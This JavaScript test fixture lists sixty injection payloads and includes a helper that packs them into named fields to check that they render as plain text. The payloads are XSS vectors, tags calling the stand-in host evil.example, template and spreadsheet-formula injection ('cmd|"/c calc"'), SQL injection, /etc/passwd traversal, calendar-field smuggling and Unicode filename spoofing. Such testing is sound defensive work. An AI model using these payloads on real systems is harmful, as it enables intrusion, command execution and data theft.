// SPDX-License-Identifier: Apache-2.0
// Sixty things that a page, a spreadsheet or a calendar might take for more than text. Each that runs
// sets window.__hit.
const RUN = 'window.__hit=1';
export const PAYLOADS = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}">`,
  `<svg><script>${RUN}</script></svg>`,
  `"><script>${RUN}</script>`,
  `'><img src=x onerror=${RUN}>`,
  `</textarea><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `<iframe srcdoc="<script>parent.__hit=1</script>">`,
  '<iframe src="javascript:parent.__hit=1">',
  '<object data="javascript:__hit=1">',
  '<embed src="javascript:__hit=1">',
  '<base href="//evil.example/">',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<form action="//evil.example"><button>x</button></form>',
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<body onload=${RUN}>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<math><mtext><img src=x onerror=${RUN}>`,
  `<template><img src=x onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<style>@import'//evil.example/';*{display:none}</style>`,
  `<div style="position:fixed;inset:0">`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  '{{constructor.constructor("window.__hit=1")()}}',
  '${window.__hit=1}',
  '<%= 7*7 %>',
  '#{7*7}',
  `" onmouseover="${RUN}`,
  `' autofocus onfocus='${RUN}`,
  '` onclick=window.__hit=1 `',
  '&lt;script&gt;window.__hit=1&lt;/script&gt;',
  '&#60;img src=x onerror=window.__hit=1&#62;',
  '%3Cscript%3Ewindow.__hit=1%3C/script%3E',
  '\\u003cscript\\u003ewindow.__hit=1\\u003c/script\\u003e',
  '＜script＞window.__hit=1＜/script＞',
  '=cmd|"/c calc"!A1',
  '+SUM(1+1)*cmd|"/c calc"!A1',
  '-2+3+cmd|"/c calc"!A1',
  '@SUM(1+1)',
  '=HYPERLINK("//evil.example","x")',
  'END:VEVENT BEGIN:VEVENT SUMMARY:x',
  'x\\nATTACH:http://evil.example',
  "'; DROP TABLE person; --",
  '" OR 1=1 --',
  '../../../../etc/passwd',
  '\u202egnp.exe\u202c',
  '\u200b\u200d\ufeff zero width',
  'e\u0301\u0302\u0303\u0304\u0305 combining',
  '__proto__[x]=1 constructor.prototype',
  'å'.repeat(25),
];

/** Fields that are names (centre/name.h): a character that nobody sees is refused there. */
const NAMES = new Set(['plan', 'calibration', 'focus', 'window', 'team', 'person', 'line', 'agreement', 'list']);
export const UNSEEN = PAYLOADS.filter(one => /\p{Cf}/u.test(one));
const SEEN = PAYLOADS.filter(one => !UNSEEN.includes(one));
export const fitting = field => (NAMES.has(field) ? SEEN : PAYLOADS);

/** Words for a field: its name, and payloads up to so many bytes; called again it goes on with the next. */
export function bundles() {
  const used = new Map();
  const words = (field, most) => {
    const fit = fitting(field);
    const turn = used.get(field) ?? { at: 0 };
    let text = `¤${field}¤`;
    for (let k = 0; k < fit.length; k++) {
      const next = `${text} ${fit[turn.at % fit.length]}`;
      if (Buffer.byteLength(next) > most) break;
      text = next;
      turn.at++;
    }
    used.set(field, turn);
    return text;
  };
  /** Fields, and how many different payloads each has held. */
  const held = () => [...used].map(([field, { at }]) => [field, Math.min(at, fitting(field).length)]);
  return { words, held };
}
